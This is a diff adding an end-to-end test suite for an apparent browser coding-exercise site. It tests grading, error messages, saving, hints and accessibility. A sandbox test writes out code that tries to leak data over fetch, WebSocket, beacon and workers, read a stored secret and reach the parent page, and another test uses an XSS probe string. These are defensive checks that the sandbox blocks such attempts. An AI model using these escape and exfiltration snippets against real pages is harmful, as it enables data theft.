@@ -1,0 +1,401 @@
+import { readFileSync, readdirSync } from 'node:fs'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import type { Page } from 'playwright-core'
+import { describe, expect, it, onTestFinished } from 'vitest'
+import { expectNoAxeViolations } from './support/axe.ts'
+import { until, useLab, type PageOptions } from './support/browser.ts'
+
+const lab = useLab()
+
+const folder = fileURLToPath(new URL('../../site/exercises', import.meta.url))
+const exercises = readdirSync(folder).map((name) => ({ name, slug: name.slice(3) }))
+const read = (exercise: string, file: string) => readFileSync(join(folder, exercise, file), 'utf8')
+const first = exercises[0]!
+const page_of_first = `build/${first.slug}/`
+
+interface Seen {
+  id: string
+  passed: boolean
+  title: string
+  message: string
+  seed: number
+  line?: number
+  prints: { text: string }[]
+}
+
+type VerdictElement = HTMLElement & { verdict?: Seen; running: boolean; trouble?: string }
+
+async function ready(page: Page): Promise<void> {
+  await page.locator('.own .cm-content').waitFor()
+  await until('the starter is in the editor', async () => (await code(page)).trim() !== '')
+}
+
+const code = (page: Page) =>
+  page.evaluate(() => (document.querySelector('attn-editor.own') as HTMLElement & { code: string }).code)
+
+/** Types as a person pastes: into the real editor, over all that is there. */
+async function write(page: Page, text: string): Promise<void> {
+  await page.locator('.own .cm-content').click()
+  await page.keyboard.press('Control+A')
+  await page.keyboard.insertText(text)
+  expect(await code(page)).toBe(text)
+}
+
+const verdict = (page: Page) =>
+  page.evaluate(() => {
+    const { verdict, running, trouble } = document.querySelector('attn-verdict') as VerdictElement
+    return { verdict, running, trouble }
+  })
+
+/** Whatever starts the run, then the verdict that follows. */
+async function verdictAfter(page: Page, act: () => Promise<void>): Promise<Seen> {
+  const element = await page.evaluateHandle(() => (document.querySelector('attn-verdict') as VerdictElement).verdict)
+  await act()
+  await until('there is a new verdict', () =>
+    page.evaluate((old) => {
+      const { verdict, running, trouble } = document.querySelector('attn-verdict') as VerdictElement
+      return !running && (trouble !== undefined || (verdict !== undefined && verdict !== old))
+    }, element),
+  )
+  const { verdict: seen, trouble } = await verdict(page)
+  expect(trouble).toBeUndefined()
+  return seen!
+}
+
+const pressRun = (page: Page) =>
+  verdictAfter(page, () => page.getByRole('button', { name: 'Run', exact: true }).click())
+
+async function run(page: Page, text: string): Promise<Seen> {
+  await write(page, text)
+  return pressRun(page)
+}
+
+async function openExercise(path: string, options: PageOptions = {}): Promise<Page> {
+  const page = await lab.openPage(path, options)
+  await ready(page)
+  return page
+}
+
+const shown = (page: Page) => page.locator('attn-verdict').innerText()
+
+describe.each(exercises)('exercise $slug', ({ name, slug }) => {
+  it('rejects its starter with a first step', async () => {
+    const page = await openExercise(`build/${slug}/`)
+    expect(await code(page)).toBe(read(name, 'starter.js'))
+    const seen = await pressRun(page)
+    expect(seen.passed).toBe(false)
+    expect(await shown(page)).toContain(seen.title)
+  })
+
+  it('passes its solution', async () => {
+    const page = await openExercise(`build/${slug}/`)
+    const seen = await run(page, read(name, 'solution.js'))
+    expect(seen.id).toBe('passed')
+    expect(await shown(page)).toContain(seen.title)
+    expect(await page.locator('.exercise-next').isVisible()).toBe(true)
+  })
+
+  it('names each recorded mistake on the page', async () => {
+    const page = await openExercise(`build/${slug}/`)
+    const mistakes = readdirSync(join(folder, name, 'mistakes'))
+    expect(mistakes.length).toBeGreaterThanOrEqual(6)
+    for (const file of mistakes) {
+      const seen = await run(page, read(name, `mistakes/${file}`))
+      expect(`${seen.id}.js`).toBe(file)
+      expect(await page.locator('.verdict').getAttribute('data-diagnosis')).toBe(seen.id)
+      expect(await shown(page)).toContain(seen.title)
+    }
+  })
+})
+
+describe('a run', () => {
+  it('of an endless loop is stopped with a clear message, and the next run works', async () => {
+    const page = await openExercise(page_of_first)
+    const seen = await run(page, 'function attend(query) {\n  console.log("begun")\n  for (;;) {}\n}')
+    expect(seen).toMatchObject({ id: 'time_limit', title: 'Stopped after 3 seconds' })
+    expect(await shown(page)).toContain('Look for a loop whose end never comes')
+    expect(await shown(page)).toContain('begun')
+    expect((await run(page, read(first.name, 'solution.js'))).id).toBe('passed')
+  })
+
+  it('can be stopped by hand, while the page shows how long it may go on', async () => {
+    const page = await openExercise(page_of_first)
+    await write(page, 'function attend() { for (;;) {} }')
+    const seen = await verdictAfter(page, async () => {
+      await page.keyboard.press('Control+Enter')
+      await page.locator('.countdown').waitFor()
+      await page.getByRole('button', { name: 'Stop' }).click()
+    })
+    expect(seen.id).toBe('stopped')
+    expect((await run(page, read(first.name, 'solution.js'))).id).toBe('passed')
+  })
+
+  it.each([
+    ['function attend(query) {\n  const scores = ;\n}', 'syntax_error', 2],
+    ['function attend(query) {\n  if (query) {\n}\n', 'syntax_error', 4],
+    ["import x from 'x'\nfunction attend() {}", 'syntax_error', 1],
+    ['function attent() {}', 'missing_function', undefined],
+    ['function attend(query) { return attend(query) }', 'stack_overflow', 1],
+    ['function attend() {\n  return new Float64Array(1e13)\n}', 'too_large', 2],
+    ['function attend() {\n\n  return new Matrix(1e6, 1e6)\n}', 'threw', 3],
+    ['function attend(query) {\n  return query.at(query.rows, 0)\n}', 'threw', 2],
+    ['const attend = () => nothing_here', 'threw', 1],
+    ['async function attend(query) { return query }', 'returned_promise', undefined],
+    [
+      'Array.prototype.push = () => 0\nfunction attend(query, key) { return [query, key] }',
+      'damaged_result',
+      undefined,
+    ],
+  ])('says what is wrong with %j', async (text, id, line) => {
+    const page = await openExercise(page_of_first)
+    const seen = await run(page, text)
+    expect([seen.id, seen.line]).toEqual([id, line])
+    if (line === undefined) return
+    await page.getByRole('button', { name: `Go to line ${line}` }).click()
+    expect(await page.locator('.own .cm-lint-marker-error').count()).toBe(1)
+  })
+
+  it('prints matrices where a person can read them, as text only', async () => {
+    const page = await openExercise(page_of_first)
+    await run(page, 'function attend(query) { console.log(query, "<img src=x onerror=alert(1)>"); return query }')
+    const printed = await page.locator('.verdict-prints pre').first().innerText()
+    expect(printed).toMatch(/^\d+ × \d+ matrix\n/)
+    expect(printed).toContain('<img src=x onerror=alert(1)>')
+  })
+
+  it('takes new numbers each time, the same ones on request, and those in the address', async () => {
+    const page = await openExercise(page_of_first)
+    const one = await pressRun(page)
+    const two = await pressRun(page)
+    expect(two.seed).not.toBe(one.seed)
+    const again = await verdictAfter(page, () =>
+      page.getByRole('button', { name: 'Run again with these numbers' }).click(),
+    )
+    expect(again.seed).toBe(two.seed)
+    expect(new URL(page.url()).hash).toBe(`#seed=${two.seed}`)
+
+    const other = await openExercise(`${page_of_first}#seed=4021`)
+    expect((await pressRun(other)).seed).toBe(4021)
+    await other.getByRole('button', { name: /Seed 4021/ }).click()
+    expect((await pressRun(other)).seed).not.toBe(4021)
+  })
+
+  it('needs no mouse: in by Tab, written, run, out by Escape and Tab', async () => {
+    const page = await openExercise(page_of_first)
+    const inEditor = () => page.evaluate(() => document.activeElement?.closest('attn-editor.own') !== null)
+    for (let i = 0; i < 40 && !(await inEditor()); ++i) await page.keyboard.press('Tab')
+    expect(await inEditor()).toBe(true)
+    await page.keyboard.press('Control+A')
+    await page.keyboard.insertText(read(first.name, 'solution.js'))
+    expect((await verdictAfter(page, () => page.keyboard.press('Control+Enter'))).id).toBe('passed')
+    await page.keyboard.press('Tab')
+    expect(await inEditor()).toBe(true)
+    await page.keyboard.press('Escape')
+    await page.keyboard.press('Tab')
+    expect(await inEditor()).toBe(false)
+    expect(await page.evaluate(() => document.activeElement?.textContent)).toContain('Copy')
+  })
+})
+
+describe('work', () => {
+  it('survives a reload in the middle of typing', async () => {
+    const page = await openExercise(page_of_first)
+    await write(page, '// half a thou')
+    await page.reload()
+    await ready(page)
+    expect(await code(page)).toBe('// half a thou')
+  })
+
+  it('is reset, and back with one press', async () => {
+    const page = await openExercise(page_of_first)
+    await write(page, '// mine')
+    await page.getByRole('button', { name: 'Reset' }).click()
+    expect(await code(page)).toBe(read(first.name, 'starter.js'))
+    await page.getByRole('button', { name: 'Undo' }).click()
+    expect(await code(page)).toBe('// mine')
+    await until('it is saved', async () => (await page.locator('.save-state').innerText()) === 'saved')
+    await page.reload()
+    await ready(page)
+    expect(await code(page)).toBe('// mine')
+  })
+
+  it('in two tabs is not lost without a word', async () => {
+    const context = await lab.newContext()
+    onTestFinished(() => context.close())
+    const one = await openExercise(page_of_first, { context })
+    const two = await openExercise(page_of_first, { context })
+    await write(two, '// of the second tab')
+    await one.getByText('in another tab').waitFor()
+    await one.getByRole('button', { name: 'Show that version' }).click()
+    expect(await code(one)).toBe('// of the second tab')
+  })
+
+  it('is said to be temporary where the browser stores nothing', async () => {
+    const context = await lab.newContext()
+    onTestFinished(() => context.close())
+    await context.addInitScript(() => {
+      const refuse = {
+        get() {
+          throw new DOMException('Access is denied for this document.', 'SecurityError')
+        },
+      }
+      Object.defineProperty(window, 'indexedDB', refuse)
+      Object.defineProperty(window, 'localStorage', refuse)
+    })
+    const page = await openExercise(page_of_first, { context })
+    await write(page, read(first.name, 'solution.js'))
+    await page.getByText('does not let the page store anything').waitFor()
+    expect((await pressRun(page)).id).toBe('passed')
+  })
+
+  it('shows in the list: not started, in progress, passed', async () => {
+    const context = await lab.newContext()
+    onTestFinished(() => context.close())
+    const list = await lab.openPage('build/', { context })
+    const card = list.locator(`[data-exercise="${first.slug}"]`)
+    await card.getByText('not started').waitFor()
+    expect(await list.locator('.exercise-card').count()).toBe(exercises.length)
+    const page = await openExercise(page_of_first, { context })
+    await write(page, read(first.name, 'solution.js'))
+    await until('it is saved', async () => (await page.locator('.save-state').innerText()) === 'saved')
+    await list.reload()
+    await card.getByText('in progress').waitFor()
+    await pressRun(page)
+    await list.reload()
+    await card.getByText('passed').waitFor()
+  })
+})
+
+describe('help', () => {
+  it('comes hint by hint, and a solution only after an attempt, beside the learner’s own code', async () => {
+    const page = await openExercise(page_of_first)
+    const solution = page.getByRole('button', { name: 'Show a solution' })
+    expect(await solution.count()).toBe(0)
+    await page.getByRole('button', { name: 'Show a hint' }).click()
+    await page.getByText('Hint 1 of 3').waitFor()
+    for (const next of ['Hint 2 of 3', 'Hint 3 of 3']) await page.getByRole('button', { name: next }).click()
+    expect(await page.locator('.hints > li').count()).toBe(3)
+
+    await run(page, '// an attempt')
+    await solution.click()
+    await page.getByRole('button', { name: 'Not yet' }).click()
+    await solution.click()
+    await page.getByRole('button', { name: 'Show it' }).click()
+    const text = () =>
+      page.evaluate(() => (document.querySelector('.solution attn-editor') as HTMLElement & { code: string }).code)
+    await until('the solution is there', async () => (await text()) === read(first.name, 'solution.js'))
+    expect(await code(page)).toBe('// an attempt')
+
+    await page.reload()
+    await ready(page)
+    expect(await page.locator('.hints > li').count()).toBe(3)
+  })
+})
+
+/** Counts every request, also those that a browser sends without reading the answer. */
+async function leakServer(): Promise<{ url: string; requests: string[]; server: Server }> {
+  const requests: string[] = []
+  const server = createServer((request, response) => {
+    requests.push(request.url ?? '')
+    response.setHeader('access-control-allow-origin', '*').end('leaked')
+  })
+  server.on('upgrade', (request, socket) => {
+    requests.push(request.url ?? '')
+    socket.destroy()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server }
+}
+
+describe('the sandbox', () => {
+  it('gives code no network, no storage and no way to the page', async () => {
+    const { url, requests, server } = await leakServer()
+    // What is tried here is logged as blocked on the console, so this page is opened without the watch for errors.
+    const context = await lab.browser.newContext()
+    onTestFinished(async () => {
+      await context.close()
+      server.close()
+    })
+    const page = await context.newPage()
+    await page.goto(`${lab.server.url}${page_of_first}`)
+    await page.evaluate(() => localStorage.setItem('secret', 'of the page'))
+    await ready(page)
+
+    const seen = await run(
+      page,
+      `const leak = ${JSON.stringify(url)}
+const tries = {
+  fetch: () => void fetch(leak + '/fetch').catch(() => {}),
+  request: () => { const r = new XMLHttpRequest(); r.open('GET', leak + '/xhr', false); r.send() },
+  script: () => importScripts(leak + '/script'),
+  socket: () => void new WebSocket(leak.replace('http', 'ws') + '/socket'),
+  events: () => void new EventSource(leak + '/events'),
+  beacon: () => { if (!navigator.sendBeacon) throw new Error('no beacon') ; navigator.sendBeacon(leak + '/beacon') },
+  module: () => void import(leak + '/module').catch(() => {}),
+  worker: () => void new Worker(leak + '/worker'),
+  nested: () => void new Worker(URL.createObjectURL(new Blob(['fetch("' + leak + '/nested")']))),
+  local: () => { localStorage.getItem('secret'); throw 'LEAK' },
+  database: () => { indexedDB.open('attention-lab').onsuccess = () => { fetch(leak + '/database') } },
+  page: () => { parent.document.title; throw 'LEAK' },
+  top: () => { top.location = leak + '/top'; throw 'LEAK' },
+  place: () => { location.href = leak + '/place' },
+  code: () => eval('1') && (() => { throw 'LEAK' })(),
+}
+function attend(query, key) {
+  for (const [name, attempt] of Object.entries(tries)) {
+    let result = 'went on'
+    try { attempt() } catch (error) { result = error === 'LEAK' ? 'LEAKED' : 'refused' }
+    console.log(name + ': ' + result)
+  }
+  self.postMessage({ kind: 'finished', results: [] })
+  const end = Date.now() + 700
+  while (Date.now() < end);
+  return { output: query, weights: key }
+}`,
+    )
+    const printed = seen.prints.map(({ text }) => text)
+    expect(printed.slice(0, 15).map((line) => line.split(':')[0])).toEqual([
+      ...['fetch', 'request', 'script', 'socket', 'events', 'beacon', 'module', 'worker', 'nested'],
+      ...['local', 'database', 'page', 'top', 'place', 'code'],
+    ])
+    expect(printed.filter((line) => line.includes('LEAKED'))).toEqual([])
+    expect(seen.passed).toBe(false)
+    await page.waitForTimeout(1500)
+    expect(requests).toEqual([])
+    expect(page.url()).toContain(page_of_first)
+    expect(await page.locator('iframe').count()).toBe(1)
+    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-scripts')
+  })
+
+  it('does not hear messages from the page’s own window', async () => {
+    const page = await openExercise(page_of_first)
+    await page.evaluate(() => {
+      window.postMessage({ kind: 'finished', results: [] }, '*')
+      const forged = { id: 'passed', passed: true, title: 'Forged' }
+      window.dispatchEvent(new MessageEvent('message', { data: forged }))
+    })
+    expect((await pressRun(page)).passed).toBe(false)
+    expect(await shown(page)).not.toContain('Forged')
+  })
+})
+
+describe.each(['light', 'dark'] as const)('axe finds nothing in the states of an exercise, %s', (theme) => {
+  it.each([1280, 390])('at %i px', async (width) => {
+    const page = await openExercise(page_of_first, { theme, width })
+    await expectNoAxeViolations(page)
+    await page.getByRole('button', { name: 'Show a hint' }).click()
+    await run(page, read(first.name, `mistakes/${readdirSync(join(folder, first.name, 'mistakes'))[0]!}`))
+    await page.getByRole('button', { name: 'Show a solution' }).click()
+    await expectNoAxeViolations(page)
+    await page.getByRole('button', { name: 'Show it' }).click()
+    await page.locator('.solution .cm-content').waitFor()
+    await expectNoAxeViolations(page)
+    await run(page, 'function attend(query) {\n  console.log(query)\n  return query.at(99, 0)\n}')
+    await expectNoAxeViolations(page)
+    await run(page, read(first.name, 'solution.js'))
+    await expectNoAxeViolations(page)
+  })
+})
